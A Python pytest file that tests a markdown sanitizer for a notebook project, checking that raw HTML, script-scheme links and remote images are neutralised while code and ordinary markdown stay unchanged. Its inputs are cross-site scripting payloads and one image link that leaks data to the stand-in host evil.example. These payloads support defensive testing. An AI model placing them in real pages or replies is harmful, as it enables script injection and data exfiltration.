"""The static copy escapes raw HTML and script links outside code, and leaves code alone."""

import pytest

from ling_notebook.markdown_copy import safe_markdown


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<iframe src=javascript:alert(1)>",
        "text <a href='javascript:alert(1)'>x</a>",
        "\\`<img src=x onerror=alert(1)>\\`",
    ],
)
def test_raw_html_is_escaped(hostile):
    assert "<" not in safe_markdown(hostile).replace("&lt;", "")


@pytest.mark.parametrize(
    "link",
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](javascript\\:alert(1))",
        "[x]( vbscript:msgbox)",
        "[x](data:text/html,<script>)",
        "[x]: javascript:alert(1)",
    ],
)
def test_script_link_schemes_are_defused(link):
    out = safe_markdown(link).lower()
    for scheme in ("javascript", "vbscript", "data"):
        assert f"{scheme}:" not in out and f"{scheme}\\:" not in out


def test_entity_encoded_schemes_stay_inert():
    assert "&#106;" not in safe_markdown("[x](&#106;avascript:alert(1))")


def test_code_is_left_as_written():
    text = "Use `List<int>` here.\n\n```html\n<b>bold</b> & <i>x</i>\n```\n"
    out = safe_markdown(text)
    assert "`List<int>`" in out and "<b>bold</b> & <i>x</i>" in out


def test_html_after_a_code_block_is_escaped():
    out = safe_markdown("```\ncode\n```\n<script>x</script>")
    assert out.endswith("&lt;script>x&lt;/script>")


def test_unclosed_fence_is_closed():
    out = safe_markdown("```python\nprint(1)")
    assert out.endswith("\n```")


def test_ordinary_markdown_is_unchanged():
    text = "# Title\n\n- one\n- **two**\n\n> quote\n\n[link](https://example.org) | a | b |"
    assert safe_markdown(text) == text


@pytest.mark.parametrize("link", ["[click](javascript:alert(1))", "[click]( JaVaScRiPt:x)", "[x]: javascript:alert(1)"])
def test_unsafe_links_show_as_text_not_links(link):
    out = safe_markdown(link)
    assert "](" not in out.replace("]\\(", "") and not out.startswith("[x]:")


def test_safe_links_stay_links():
    assert safe_markdown("[docs](https://example.org) and [mail](mailto:a@b.c)") == (
        "[docs](https://example.org) and [mail](mailto:a@b.c)"
    )


def test_images_are_not_loaded():
    out = safe_markdown("![secret](https://evil.example/?q=data) and ![ref][1]")
    assert "![" not in out
